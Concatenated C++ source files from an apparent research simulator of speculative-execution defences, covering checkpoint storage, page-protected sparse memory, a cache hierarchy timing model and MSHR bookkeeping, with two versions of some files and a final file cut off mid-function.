        NDA_WARN("ckpt: cannot publish index: %s", ec.message().c_str());
        fs::remove(tmp, ec);
    }
}

void
CheckpointStore::touchLocked(const std::string &file)
{
    auto it = index_.find(file);
    if (it != index_.end())
        it->second.lastUse = ++useClock_;
}

void
CheckpointStore::quarantineLocked(const std::string &file)
{
    std::error_code ec;
    fs::rename(entryPath(file), entryPath(file + ".bad"), ec);
    if (ec)
        fs::remove(entryPath(file), ec);
    index_.erase(file);
    ++stats_.quarantined;
    NDA_WARN("ckpt: quarantined corrupt corpus entry '%s'",
             file.c_str());
}

void
CheckpointStore::evictLocked()
{
    if (maxBytes_ == 0)
        return;
    auto total = [this] {
        std::uint64_t t = 0;
        for (const auto &[file, entry] : index_)
            t += entry.bytes;
        return t;
    };
    while (index_.size() > 1 && total() > maxBytes_) {
        auto lru = index_.begin();
        for (auto it = index_.begin(); it != index_.end(); ++it) {
            if (it->second.lastUse < lru->second.lastUse)
                lru = it;
        }
        std::error_code ec;
        fs::remove(entryPath(lru->first), ec);
        index_.erase(lru);
        ++stats_.evictions;
    }
}

bool
CheckpointStore::load(const CkptKey &key, SimSnapshot &out,
                      std::uint64_t *bytes)
{
    std::lock_guard<std::mutex> lock(mu_);
    if (bytes)
        *bytes = 0;
    const std::string file = key.fileName();
    const std::string path = entryPath(file);

    std::error_code ec;
    if (!fs::exists(path, ec)) {
        ++stats_.misses;
        return false;
    }

    CkptReader reader;
    if (!reader.readFile(path, out)) {
        NDA_WARN("ckpt: '%s': %s", path.c_str(),
                 reader.error().c_str());
        quarantineLocked(file);
        writeIndexLocked();
        ++stats_.misses;
        return false;
    }

    const std::uint64_t size = fs::file_size(path, ec);
    if (!index_.count(file))
        index_[file] = Entry{ec ? 0 : size, 0};
    touchLocked(file);
    writeIndexLocked();
    ++stats_.hits;
    stats_.bytesRead += ec ? 0 : size;
    if (bytes)
        *bytes = ec ? 0 : size;
    return true;
}

std::uint64_t
CheckpointStore::store(const CkptKey &key, const SimSnapshot &snap)
{
    std::lock_guard<std::mutex> lock(mu_);
    const std::string file = key.fileName();
    const std::string path = entryPath(file);

    CkptWriter writer;
    writer.put(snap);

    // Atomic publication: a reader (this process or another sharing
    // the corpus) sees the old entry, no entry, or the complete new
    // one — never a torn write.
    const std::string tmp =
        path + ".tmp." +
        std::to_string(static_cast<unsigned long long>(
            reinterpret_cast<std::uintptr_t>(this)));
    if (!writer.writeFile(tmp))
        return 0;
    std::error_code ec;
    fs::rename(tmp, path, ec);
    if (ec) {
        NDA_WARN("ckpt: cannot publish '%s': %s", path.c_str(),
                 ec.message().c_str());
        fs::remove(tmp, ec);
        return 0;
    }

    const std::uint64_t size = writer.bytes().size();
    index_[file] = Entry{size, 0};
    touchLocked(file);
    evictLocked();
    writeIndexLocked();
    stats_.bytesWritten += size;
    return size;
}

bool
CheckpointStore::contains(const CkptKey &key) const
{
    std::lock_guard<std::mutex> lock(mu_);
    std::error_code ec;
    return fs::exists(entryPath(key.fileName()), ec);
}

std::size_t
CheckpointStore::entryCount() const
{
    std::lock_guard<std::mutex> lock(mu_);
    return index_.size();
}

std::uint64_t
CheckpointStore::totalBytes() const
{
    std::lock_guard<std::mutex> lock(mu_);
    std::uint64_t t = 0;
    for (const auto &[file, entry] : index_)
        t += entry.bytes;
    return t;
}

CkptStoreStats
CheckpointStore::stats() const
{
    std::lock_guard<std::mutex> lock(mu_);
    return stats_;
}

} // namespace nda
