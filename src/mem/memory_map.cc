#include "mem/memory_map.hh"

#include <algorithm>

namespace nda {

std::vector<Addr>
MemoryMap::residentPages() const
{
    std::vector<Addr> bases;
    bases.reserve(pages_.size());
    for (const auto &entry : pages_)
        bases.push_back(entry.first);
    std::sort(bases.begin(), bases.end());
    return bases;
}

MemoryMap::Page &
MemoryMap::pageFor(Addr addr)
{
    return pages_[pageBase(addr)];
}

const MemoryMap::Page *
MemoryMap::pageForConst(Addr addr) const
{
    auto it = pages_.find(pageBase(addr));
    return it == pages_.end() ? nullptr : &it->second;
}

RegVal
MemoryMap::read(Addr addr, unsigned size) const
{
    RegVal value = 0;
    for (unsigned i = 0; i < size; ++i) {
        const Addr a = addr + i;
        const Page *page = pageForConst(a);
        const std::uint8_t byte =
            page ? page->bytes[a & (kPageBytes - 1)] : 0;
        value |= static_cast<RegVal>(byte) << (8 * i);
    }
    return value;
}

void
MemoryMap::write(Addr addr, RegVal value, unsigned size)
{
    for (unsigned i = 0; i < size; ++i) {
        const Addr a = addr + i;
        pageFor(a).bytes[a & (kPageBytes - 1)] =
            static_cast<std::uint8_t>(value >> (8 * i));
    }
}

void
MemoryMap::writeBytes(Addr addr, const std::uint8_t *bytes, std::size_t len)
{
    for (std::size_t i = 0; i < len; ++i) {
        const Addr a = addr + i;
        pageFor(a).bytes[a & (kPageBytes - 1)] = bytes[i];
    }
}

void
MemoryMap::readBytes(Addr addr, std::uint8_t *out, std::size_t len) const
{
    for (std::size_t i = 0; i < len; ++i) {
        const Addr a = addr + i;
        const Page *page = pageForConst(a);
        out[i] = page ? page->bytes[a & (kPageBytes - 1)] : 0;
    }
}

void
MemoryMap::setPerm(Addr addr, std::size_t len, MemPerm perm)
{
    const Addr first = pageBase(addr);
    const Addr last = pageBase(addr + (len ? len - 1 : 0));
    for (Addr base = first; base <= last; base += kPageBytes)
        pages_[base].perm = perm;
}

MemPerm
MemoryMap::permAt(Addr addr) const
{
    const Page *page = pageForConst(addr);
    return page ? page->perm : MemPerm::kUser;
}

bool
MemoryMap::accessAllowed(Addr addr, unsigned size, CpuMode mode) const
{
    if (mode == CpuMode::kKernel)
        return true;
    const Addr first = pageBase(addr);
    const Addr last = pageBase(addr + (size ? size - 1 : 0));
    for (Addr base = first; base <= last; base += kPageBytes) {
        if (permAt(base) == MemPerm::kKernel)
            return false;
    }
    return true;
}

void
MemoryMap::clear()
{
    pages_.clear();
}

MemoryMap::PageView
MemoryMap::viewPage(Addr addr)
{
    auto it = pages_.find(pageBase(addr));
    if (it == pages_.end())
        return {};
    return {it->second.bytes.data(),
            it->second.perm == MemPerm::kKernel};
}

std::uint8_t *
MemoryMap::pageDataForWrite(Addr addr)
{
    return pageFor(addr).bytes.data();
}

} // namespace nda
