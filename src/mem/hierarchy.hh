/**
 * @file
 * Two-level cache hierarchy + DRAM timing model (paper Table 3):
 * split 32 KiB L1I/L1D (4-cycle round trip), unified 2 MiB L2
 * (40-cycle round trip), 50 ns DRAM (100 cycles at 2 GHz).
 *
 * Two timing modes:
 *  - mshrEntries == 0 (default): the legacy eager model — a miss
 *    charges its latency and fills tags immediately. This is the
 *    bit-exact behaviour every pre-MSHR golden, checkpoint, and
 *    fuzzer fingerprint was recorded against.
 *  - mshrEntries >= 1: non-blocking mode. Misses allocate MSHR
 *    entries (mem/mshr.hh) and the tags fill only when `advance()`
 *    reaches the scheduled fill cycle; a full file rejects the
 *    request (the core retries). mshrEntries == 1 per L1 file is the
 *    canonical *blocking* configuration: one miss in flight.
 */

#ifndef NDASIM_MEM_HIERARCHY_HH
#define NDASIM_MEM_HIERARCHY_HH

#include <cstdint>

#include "common/types.hh"
#include "mem/cache.hh"
#include "mem/mshr.hh"

namespace nda {

/** Which level serviced an access. */
enum class HitLevel : std::uint8_t { kL1, kL2, kMemory };

/** Timing outcome of one access. */
struct AccessResult {
    unsigned latency = 0;
    HitLevel level = HitLevel::kL1;

    bool offChip() const { return level == HitLevel::kMemory; }
};

/** Outcome class of one non-blocking request. */
enum class MemReqStatus : std::uint8_t {
    kHit = 0,   ///< serviced by L1; no MSHR involvement
    kMiss,      ///< primary miss: an MSHR entry was allocated
    kMerged,    ///< secondary miss: coalesced onto an in-flight fill
    kRejected,  ///< MSHR file (or target list) full; retry next cycle
};

/** Timing outcome of one non-blocking request. */
struct MemRequestResult {
    MemReqStatus status = MemReqStatus::kHit;
    unsigned latency = 0;       ///< cycles until the data is usable
    HitLevel level = HitLevel::kL1; ///< where the fill comes from

    bool rejected() const { return status == MemReqStatus::kRejected; }
    bool offChip() const { return level == HitLevel::kMemory; }
};

/** Parameters of the full hierarchy. */
struct HierarchyParams {
    CacheParams l1i{"l1i", 32 * 1024, 8, kLineSize, 4};
    CacheParams l1d{"l1d", 32 * 1024, 8, kLineSize, 4};
    CacheParams l2{"l2", 2 * 1024 * 1024, 16, kLineSize, 40};
    /** DRAM response latency in cycles (50 ns at 2 GHz). */
    unsigned dramLatency = 100;
    /**
     * MSHR entries per L1 file; the L2 file gets the sum of both L1
     * files so it can never reject a request an L1 accepted. 0 keeps
     * the legacy eager-fill model (bit-exact with pre-MSHR builds);
     * 1 models a blocking cache; >= 2 enables real MLP. A timing
     * knob only: excluded from snapshot geometry compatibility and
     * from the checkpoint serializer format.
     */
    unsigned mshrEntries = 0;
    /** Secondary-miss targets each entry can coalesce. */
    unsigned mshrTargets = 8;
};

/**
 * The memory-side timing model. Tags only — data always comes from the
 * functional MemoryMap owned by the core.
 */
class MemHierarchy
{
  public:
    explicit MemHierarchy(const HierarchyParams &params = {});

    /** Warming state of all three tag arrays (core/snapshot.hh). */
    struct Snapshot {
        Cache::Snapshot l1i;
        Cache::Snapshot l1d;
        Cache::Snapshot l2;

        bool operator==(const Snapshot &) const = default;
    };

    /**
     * Capture the tag arrays. In non-blocking mode any in-flight
     * fills are drained *into the captured image* in deterministic
     * (fillAt, allocation) order — the snapshot is the state the
     * machine converges to, so save -> restore -> save round-trips
     * bit-exact even mid-miss, and a legacy (mshr-less) consumer of
     * the snapshot sees no MSHR state at all.
     */
    Snapshot save() const;

    /** Restore all levels; geometry must match (asserted per level).
     *  In-flight MSHR state is discarded (restores target freshly
     *  constructed cores; nothing can be waiting on a fill). */
    void restore(const Snapshot &snap);

    /** Data access (load or store, write-allocate); mutates state.
     *  Legacy eager path: misses fill immediately. */
    AccessResult dataAccess(Addr addr);

    /**
     * Compute the latency a data access would see *without* changing
     * any cache state (InvisiSpec speculative shadow access).
     */
    AccessResult dataPeek(Addr addr) const;

    /** Fill the line containing addr into L1D and L2 (expose). */
    void dataFill(Addr addr);

    /** Instruction fetch access; mutates L1I/L2 state (legacy path). */
    AccessResult instAccess(Addr addr);

    // --- non-blocking (MSHR) request interface ------------------------
    /**
     * Data-side request in non-blocking mode. On a miss the fill is
     * scheduled through the MSHR files instead of landing eagerly;
     * kRejected means the file was full and *nothing* was mutated
     * (retry next cycle). `now` is the core's current cycle; `seq`
     * and `tid` identify the requester for squash-time target
     * cancellation (squashes are per-hardware-thread under SMT).
     */
    MemRequestResult dataRequest(Addr addr, Cycle now, InstSeqNum seq,
                                 MshrTargetKind kind, unsigned tid = 0);

    /** Instruction-side request in non-blocking mode. */
    MemRequestResult instRequest(Addr addr, Cycle now);

    /** Drain every fill due at or before `now` into the tag arrays
     *  (L2 first, then L1I, then L1D; (fillAt, alloc) order within a
     *  file) and sample MSHR occupancy. Call once per core cycle. */
    void advance(Cycle now);

    /** Squash recovery: drop thread `tid`'s load targets younger than
     *  `keep_seq` from every file. The fills themselves still land
     *  (orphaned wrong-path fills are the squash-surviving channel NDA
     *  studies), and other threads' targets are untouched. */
    void squashLoadTargets(InstSeqNum keep_seq, unsigned tid = 0);

    bool mshrEnabled() const { return params_.mshrEntries > 0; }
    /** No fill in flight in any file. */
    bool
    mshrDrained() const
    {
        return mshrI_.empty() && mshrD_.empty() && mshrL2_.empty();
    }

    const Mshr &mshrData() const { return mshrD_; }
    const Mshr &mshrInst() const { return mshrI_; }
    const Mshr &mshrL2() const { return mshrL2_; }
    /** Checker self-test corruption hooks (tests only). */
    Mshr &mshrDataForTest() { return mshrD_; }

    /** clflush semantics: evict the line from L1D, L1I and L2. */
    void flushLine(Addr addr);

    /** Invalidate all caches. */
    void flushAll();

    Cache &l1i() { return l1i_; }
    Cache &l1d() { return l1d_; }
    Cache &l2() { return l2_; }
    const Cache &l1d() const { return l1d_; }
    const Cache &l2() const { return l2_; }
    const HierarchyParams &params() const { return params_; }

    void
    resetStats()
    {
        l1i_.resetStats();
        l1d_.resetStats();
        l2_.resetStats();
        mshrI_.resetStats();
        mshrD_.resetStats();
        mshrL2_.resetStats();
    }

    /** Bind each level's stats under `prefix`.l1i / .l1d / .l2
     *  (MSHR stats included unconditionally: the schema must not
     *  depend on configuration). */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    Addr lineOf(Addr addr) const { return addr / params_.l1d.lineBytes; }
    Addr
    lineToAddr(Addr line) const
    {
        return line * params_.l1d.lineBytes;
    }

    HierarchyParams params_;
    Cache l1i_;
    Cache l1d_;
    Cache l2_;
    Mshr mshrI_;
    Mshr mshrD_;
    Mshr mshrL2_;
};

} // namespace nda

#endif // NDASIM_MEM_HIERARCHY_HH
