/**
 * @file
 * Two-level cache hierarchy + DRAM timing model (paper Table 3):
 * split 32 KiB L1I/L1D (4-cycle round trip), unified 2 MiB L2
 * (40-cycle round trip), 50 ns DRAM (100 cycles at 2 GHz).
 */

#ifndef NDASIM_MEM_HIERARCHY_HH
#define NDASIM_MEM_HIERARCHY_HH

#include <cstdint>

#include "common/types.hh"
#include "mem/cache.hh"

namespace nda {

/** Which level serviced an access. */
enum class HitLevel : std::uint8_t { kL1, kL2, kMemory };

/** Timing outcome of one access. */
struct AccessResult {
    unsigned latency = 0;
    HitLevel level = HitLevel::kL1;

    bool offChip() const { return level == HitLevel::kMemory; }
};

/** Parameters of the full hierarchy. */
struct HierarchyParams {
    CacheParams l1i{"l1i", 32 * 1024, 8, kLineSize, 4};
    CacheParams l1d{"l1d", 32 * 1024, 8, kLineSize, 4};
    CacheParams l2{"l2", 2 * 1024 * 1024, 16, kLineSize, 40};
    /** DRAM response latency in cycles (50 ns at 2 GHz). */
    unsigned dramLatency = 100;
};

/**
 * The memory-side timing model. Tags only — data always comes from the
 * functional MemoryMap owned by the core.
 */
class MemHierarchy
{
  public:
    explicit MemHierarchy(const HierarchyParams &params = {});

    /** Warming state of all three tag arrays (core/snapshot.hh). */
    struct Snapshot {
        Cache::Snapshot l1i;
        Cache::Snapshot l1d;
        Cache::Snapshot l2;

        bool operator==(const Snapshot &) const = default;
    };

    Snapshot
    save() const
    {
        return Snapshot{l1i_.save(), l1d_.save(), l2_.save()};
    }

    /** Restore all levels; geometry must match (asserted per level). */
    void
    restore(const Snapshot &snap)
    {
        l1i_.restore(snap.l1i);
        l1d_.restore(snap.l1d);
        l2_.restore(snap.l2);
    }

    /** Data access (load or store, write-allocate); mutates state. */
    AccessResult dataAccess(Addr addr);

    /**
     * Compute the latency a data access would see *without* changing
     * any cache state (InvisiSpec speculative shadow access).
     */
    AccessResult dataPeek(Addr addr) const;

    /** Fill the line containing addr into L1D and L2 (expose). */
    void dataFill(Addr addr);

    /** Instruction fetch access; mutates L1I/L2 state. */
    AccessResult instAccess(Addr addr);

    /** clflush semantics: evict the line from L1D, L1I and L2. */
    void flushLine(Addr addr);

    /** Invalidate all caches. */
    void flushAll();

    Cache &l1i() { return l1i_; }
    Cache &l1d() { return l1d_; }
    Cache &l2() { return l2_; }
    const Cache &l1d() const { return l1d_; }
    const Cache &l2() const { return l2_; }
    const HierarchyParams &params() const { return params_; }

    void
    resetStats()
    {
        l1i_.resetStats();
        l1d_.resetStats();
        l2_.resetStats();
    }

    /** Bind each level's stats under `prefix`.l1i / .l1d / .l2. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    HierarchyParams params_;
    Cache l1i_;
    Cache l1d_;
    Cache l2_;
};

} // namespace nda

#endif // NDASIM_MEM_HIERARCHY_HH
