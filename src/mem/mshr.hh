/**
 * @file
 * Miss Status Holding Registers: the bookkeeping that makes a cache
 * non-blocking.
 *
 * One Mshr file fronts one cache level. A miss to a line with no
 * in-flight fill allocates a *primary* entry carrying the scheduled
 * fill cycle; later misses to the same line while the fill is pending
 * *coalesce* as secondary targets on that entry instead of issuing a
 * second request. When every entry is occupied the file exerts
 * backpressure (the requester retries next cycle). Fills drain in
 * deterministic (fillAt, allocation) order via takeReady(), so timing
 * and LRU state are bit-reproducible for any request interleaving.
 *
 * Wrong-path requests are *orphaned* on squash rather than cancelled:
 * the squash removes the squashed load's target (nobody wakes up) but
 * the fill still lands — that squash-surviving cache mutation is
 * exactly the transmission channel the NDA paper studies, so it must
 * not silently disappear with the ROB entries.
 */

#ifndef NDASIM_MEM_MSHR_HH
#define NDASIM_MEM_MSHR_HH

#include <cstdint>
#include <string>
#include <vector>

#include "common/histogram.hh"
#include "common/types.hh"

namespace nda {

class StatsRegistry;

/** What kind of requester waits (or not) on a fill. */
enum class MshrTargetKind : std::uint8_t {
    kLoad = 0,  ///< an in-flight LSQ load; wakes at fill, squashable
    kStore,     ///< a committed store drain; nothing waits on the fill
    kPrefetch,  ///< fire-and-forget software prefetch
    kFetch,     ///< the front end's instruction stream
};

/** One requester coalesced onto an in-flight miss. */
struct MshrTarget {
    InstSeqNum seq = kInvalidSeqNum;
    MshrTargetKind kind = MshrTargetKind::kLoad;
    unsigned tid = 0;  ///< requesting hardware thread (SMT squash scope)
};

/** One in-flight miss (a primary entry plus its target list). */
struct MshrEntry {
    Addr lineAddr = 0;          ///< line-granular address (addr/lineBytes)
    Cycle fillAt = 0;           ///< cycle the fill reaches this cache
    std::uint64_t allocId = 0;  ///< allocation order, tie-break for fills
    std::vector<MshrTarget> targets;
};

/**
 * The MSHR file of a single cache level. Entry count 0 disables the
 * file entirely (the hierarchy then uses the legacy eager-fill path).
 */
class Mshr
{
  public:
    Mshr(std::string name, unsigned entries, unsigned maxTargets);

    bool enabled() const { return entries_ > 0; }
    bool full() const { return pending_.size() >= entries_; }
    bool empty() const { return pending_.empty(); }
    std::size_t occupancy() const { return pending_.size(); }
    unsigned capacity() const { return entries_; }
    const std::string &name() const { return name_; }

    /** The pending entry tracking `line`, or nullptr. */
    MshrEntry *find(Addr line);
    const MshrEntry *find(Addr line) const;

    /**
     * Allocate a primary entry for `line` filling at `fillAt`.
     * Caller must have checked !full() and find(line) == nullptr.
     */
    MshrEntry &allocate(Addr line, Cycle fillAt, MshrTarget target);

    /**
     * Coalesce a secondary requester onto an existing entry.
     * @return false (and count a full-stall) if the target list is at
     *         capacity — the requester must retry.
     */
    bool addTarget(MshrEntry &entry, MshrTarget target);

    /**
     * Remove and return every entry whose fill is due at or before
     * `now`, sorted by (fillAt, allocId) so the caller applies fills
     * in the order the memory system would deliver them.
     */
    std::vector<MshrEntry> takeReady(Cycle now);

    /** All pending entries in deterministic fill order (for the
     *  drain-into-snapshot path; does not modify the file). */
    std::vector<MshrEntry> pendingSorted() const;

    /** Squash: drop thread `tid`'s load targets younger than
     *  `keep_seq`. Other threads' targets and the entries themselves
     *  stay behind — orphaned fills still land. */
    void squashLoadTargets(InstSeqNum keep_seq, unsigned tid = 0);

    /** Forget everything in flight (checkpoint restore). */
    void clear() { pending_.clear(); }

    const std::vector<MshrEntry> &entries() const { return pending_; }

    /** Record one cycle's occupancy into the MLP histogram. */
    void sampleOccupancy();

    void noteFullStall() { ++fullStalls_; }
    std::uint64_t fullStalls() const { return fullStalls_; }
    std::uint64_t secondaryMerges() const { return secondaryMerges_; }

    void resetStats();

    /** Bind mshr_occupancy / secondary_merges / mshr_full_stalls under
     *  `prefix` (registered even when disabled so the stats schema
     *  does not depend on configuration). */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

    // --- deliberate corruption hooks (checker self-test only) ----------
    /** Duplicate the first pending entry's line as a second primary. */
    bool testDuplicatePrimary();
    /** Attach a load target with a fabricated seq to an entry. */
    bool testAddGhostTarget(InstSeqNum seq);
    /** Stuff fake entries (filling at `fillAt`, within the legal
     *  latency bound) until occupancy exceeds capacity. */
    bool testOverflow(Cycle fillAt);
    /** Push the first entry's fill past any reachable cycle — a fill
     *  the memory system lost; its waiters would sleep forever. */
    bool testStuckFill();

  private:
    std::string name_;
    unsigned entries_;
    unsigned maxTargets_;
    std::vector<MshrEntry> pending_;  ///< allocation order
    std::uint64_t nextAllocId_ = 0;
    std::uint64_t secondaryMerges_ = 0;
    std::uint64_t fullStalls_ = 0;
    Histogram occupancyHist_{64};
};

} // namespace nda

#endif // NDASIM_MEM_MSHR_HH
