#include "mem/mshr.hh"

#include <algorithm>

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

Mshr::Mshr(std::string name, unsigned entries, unsigned maxTargets)
    : name_(std::move(name)), entries_(entries), maxTargets_(maxTargets)
{
    NDA_ASSERT(entries_ == 0 || maxTargets_ > 0,
               "%s: an enabled MSHR file needs target slots",
               name_.c_str());
    pending_.reserve(entries_);
}

MshrEntry *
Mshr::find(Addr line)
{
    for (MshrEntry &e : pending_) {
        if (e.lineAddr == line)
            return &e;
    }
    return nullptr;
}

const MshrEntry *
Mshr::find(Addr line) const
{
    return const_cast<Mshr *>(this)->find(line);
}

MshrEntry &
Mshr::allocate(Addr line, Cycle fillAt, MshrTarget target)
{
    NDA_ASSERT(!full(), "%s: allocate on a full MSHR file",
               name_.c_str());
    NDA_ASSERT(find(line) == nullptr,
               "%s: duplicate primary miss for line %llu", name_.c_str(),
               static_cast<unsigned long long>(line));
    pending_.push_back(MshrEntry{line, fillAt, nextAllocId_++, {target}});
    return pending_.back();
}

bool
Mshr::addTarget(MshrEntry &entry, MshrTarget target)
{
    if (entry.targets.size() >= maxTargets_) {
        ++fullStalls_;
        return false;
    }
    entry.targets.push_back(target);
    ++secondaryMerges_;
    return true;
}

std::vector<MshrEntry>
Mshr::takeReady(Cycle now)
{
    std::vector<MshrEntry> ready;
    for (std::size_t i = 0; i < pending_.size();) {
        if (pending_[i].fillAt <= now) {
            ready.push_back(std::move(pending_[i]));
            pending_.erase(pending_.begin() +
                           static_cast<std::ptrdiff_t>(i));
        } else {
            ++i;
        }
    }
    std::sort(ready.begin(), ready.end(),
              [](const MshrEntry &a, const MshrEntry &b) {
                  return a.fillAt != b.fillAt ? a.fillAt < b.fillAt
                                              : a.allocId < b.allocId;
              });
    return ready;
}

std::vector<MshrEntry>
Mshr::pendingSorted() const
{
    std::vector<MshrEntry> all = pending_;
    std::sort(all.begin(), all.end(),
              [](const MshrEntry &a, const MshrEntry &b) {
                  return a.fillAt != b.fillAt ? a.fillAt < b.fillAt
                                              : a.allocId < b.allocId;
              });
    return all;
}

void
Mshr::squashLoadTargets(InstSeqNum keep_seq, unsigned tid)
{
    for (MshrEntry &e : pending_) {
        e.targets.erase(
            std::remove_if(e.targets.begin(), e.targets.end(),
                           [keep_seq, tid](const MshrTarget &t) {
                               return t.kind == MshrTargetKind::kLoad &&
                                      t.tid == tid && t.seq > keep_seq;
                           }),
            e.targets.end());
    }
}

void
Mshr::sampleOccupancy()
{
    if (!pending_.empty())
        occupancyHist_.add(pending_.size());
}

void
Mshr::resetStats()
{
    secondaryMerges_ = 0;
    fullStalls_ = 0;
    occupancyHist_.reset();
}

void
Mshr::registerStats(StatsRegistry &reg, const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("secondary_merges", &secondaryMerges_,
              "misses coalesced onto an in-flight fill");
    g.counter("mshr_full_stalls", &fullStalls_,
              "requests rejected because the file (or a target list) "
              "was full");
    g.histogram("mshr_occupancy", &occupancyHist_,
                "in-flight misses per cycle (cycles with >= 1 pending)");
}

bool
Mshr::testDuplicatePrimary()
{
    if (pending_.empty() || full())
        return false;
    const MshrEntry &victim = pending_.front();
    pending_.push_back(
        MshrEntry{victim.lineAddr, victim.fillAt, nextAllocId_++, {}});
    return true;
}

bool
Mshr::testAddGhostTarget(InstSeqNum seq)
{
    if (pending_.empty())
        return false;
    pending_.front().targets.push_back(
        MshrTarget{seq, MshrTargetKind::kLoad});
    return true;
}

bool
Mshr::testOverflow(Cycle fillAt)
{
    if (!enabled())
        return false;
    // Distinct impossible lines at a legal fill cycle: trips only the
    // occupancy invariant, not duplicate-primary or stuck-fill.
    while (pending_.size() <= entries_) {
        pending_.push_back(MshrEntry{~Addr{0} - pending_.size(), fillAt,
                                     nextAllocId_++, {}});
    }
    return true;
}

bool
Mshr::testStuckFill()
{
    if (pending_.empty())
        return false;
    pending_.front().fillAt = ~Cycle{0};
    return true;
}

} // namespace nda
