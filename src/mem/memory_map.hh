/**
 * @file
 * Sparse functional memory with page-granular protection domains.
 *
 * This is the architectural backing store: stores become visible here
 * only at commit. Kernel pages model the privileged memory that
 * Meltdown-class chosen-code attacks target (paper §4.3).
 */

#ifndef NDASIM_MEM_MEMORY_MAP_HH
#define NDASIM_MEM_MEMORY_MAP_HH

#include <array>
#include <cstdint>
#include <unordered_map>
#include <vector>

#include "common/types.hh"

namespace nda {

/** Sparse byte-addressable memory, 4 KiB pages allocated on demand. */
class MemoryMap
{
  public:
    static constexpr Addr kPageBytes = 4096;

    /** Read `size` bytes, zero-extended; unmapped bytes read as 0. */
    RegVal read(Addr addr, unsigned size) const;

    /** Write the low `size` bytes of `value`. */
    void write(Addr addr, RegVal value, unsigned size);

    /** Bulk-initialize a span. */
    void writeBytes(Addr addr, const std::uint8_t *bytes, std::size_t len);

    /** Read a span into `out`; unmapped bytes are 0. */
    void readBytes(Addr addr, std::uint8_t *out, std::size_t len) const;

    /** Set protection on all pages overlapping [addr, addr+len). */
    void setPerm(Addr addr, std::size_t len, MemPerm perm);

    /** Protection of the page containing addr (kUser if unmapped). */
    MemPerm permAt(Addr addr) const;

    /**
     * True if an access of `size` bytes at `addr` from `mode` is
     * allowed on every touched page.
     */
    bool accessAllowed(Addr addr, unsigned size, CpuMode mode) const;

    /** Drop all contents and permissions. */
    void clear();

    // --- Interpreter fast path -----------------------------------------
    // The threaded run loop caches one of these per run as a last-page
    // translation entry, folding the permission check into `kernel`.
    // Pointers stay valid across insertions (unordered_map is
    // node-based); they are invalidated only by clear().

    /** Raw view of the page containing `page_base` (if resident). */
    struct PageView {
        std::uint8_t *bytes = nullptr; ///< null: page not resident
        bool kernel = false;           ///< page faults in user mode
    };

    /**
     * Look up the page containing `addr` without allocating — loads
     * from absent pages must read 0, not materialize a page (the
     * resident-page set is part of the equality contract above).
     */
    PageView viewPage(Addr addr);

    /** Byte storage of the page containing `addr`, allocating it on
     *  demand (store fast path; permissions checked by the caller). */
    std::uint8_t *pageDataForWrite(Addr addr);

    /** Number of resident pages (for tests). */
    std::size_t pageCount() const { return pages_.size(); }

    /**
     * Base addresses of all resident pages, sorted ascending. The
     * serializer (ckpt/serializer.hh) walks this to emit a canonical
     * byte stream — unordered_map iteration order must never leak
     * into a checkpoint file.
     */
    std::vector<Addr> residentPages() const;

    /**
     * Exact equality of resident pages (contents + permissions).
     * Used by the snapshot layer: two maps produced by the same write
     * sequence have the same resident-page set, so page-for-page
     * comparison is the bit-identity contract, not a semantic one (a
     * map holding an explicit all-zero user page differs from one
     * where the page was never touched).
     */
    bool operator==(const MemoryMap &) const = default;

  private:
    struct Page {
        std::array<std::uint8_t, kPageBytes> bytes{};
        MemPerm perm = MemPerm::kUser;

        bool operator==(const Page &) const = default;
    };

    static Addr pageBase(Addr addr) { return addr & ~(kPageBytes - 1); }

    Page &pageFor(Addr addr);
    const Page *pageForConst(Addr addr) const;

    std::unordered_map<Addr, Page> pages_;
};

} // namespace nda

#endif // NDASIM_MEM_MEMORY_MAP_HH
