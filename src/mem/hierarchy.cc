#include "mem/hierarchy.hh"

namespace nda {

MemHierarchy::MemHierarchy(const HierarchyParams &params)
    : params_(params), l1i_(params.l1i), l1d_(params.l1d), l2_(params.l2)
{
}

AccessResult
MemHierarchy::dataAccess(Addr addr)
{
    if (l1d_.access(addr))
        return {params_.l1d.hitLatency, HitLevel::kL1};
    if (l2_.access(addr))
        return {params_.l2.hitLatency, HitLevel::kL2};
    return {params_.l2.hitLatency + params_.dramLatency, HitLevel::kMemory};
}

AccessResult
MemHierarchy::dataPeek(Addr addr) const
{
    if (l1d_.probe(addr))
        return {params_.l1d.hitLatency, HitLevel::kL1};
    if (l2_.probe(addr))
        return {params_.l2.hitLatency, HitLevel::kL2};
    return {params_.l2.hitLatency + params_.dramLatency, HitLevel::kMemory};
}

void
MemHierarchy::dataFill(Addr addr)
{
    l1d_.fill(addr);
    l2_.fill(addr);
}

AccessResult
MemHierarchy::instAccess(Addr addr)
{
    if (l1i_.access(addr))
        return {params_.l1i.hitLatency, HitLevel::kL1};
    if (l2_.access(addr))
        return {params_.l2.hitLatency, HitLevel::kL2};
    return {params_.l2.hitLatency + params_.dramLatency, HitLevel::kMemory};
}

void
MemHierarchy::flushLine(Addr addr)
{
    l1d_.flush(addr);
    l1i_.flush(addr);
    l2_.flush(addr);
}

void
MemHierarchy::flushAll()
{
    l1i_.flushAll();
    l1d_.flushAll();
    l2_.flushAll();
}

void
MemHierarchy::registerStats(StatsRegistry &reg,
                            const std::string &prefix) const
{
    l1i_.registerStats(reg, prefix + ".l1i");
    l1d_.registerStats(reg, prefix + ".l1d");
    l2_.registerStats(reg, prefix + ".l2");
}

} // namespace nda
