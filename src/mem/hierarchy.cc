#include "mem/hierarchy.hh"

#include "common/log.hh"

namespace nda {

MemHierarchy::MemHierarchy(const HierarchyParams &params)
    : params_(params), l1i_(params.l1i), l1d_(params.l1d),
      l2_(params.l2),
      mshrI_("mshr_i", params.mshrEntries, params.mshrTargets),
      mshrD_("mshr_d", params.mshrEntries, params.mshrTargets),
      // Sized so the L2 file can never reject a line an L1 file
      // accepted: every pending L2 entry is backed by at least one
      // pending L1 entry.
      mshrL2_("mshr_l2", 2 * params.mshrEntries, params.mshrTargets)
{
    NDA_ASSERT(!mshrEnabled() ||
                   (params_.l1i.lineBytes == params_.l1d.lineBytes &&
                    params_.l1d.lineBytes == params_.l2.lineBytes),
               "MSHR coalescing assumes one line size across levels");
}

AccessResult
MemHierarchy::dataAccess(Addr addr)
{
    if (l1d_.access(addr))
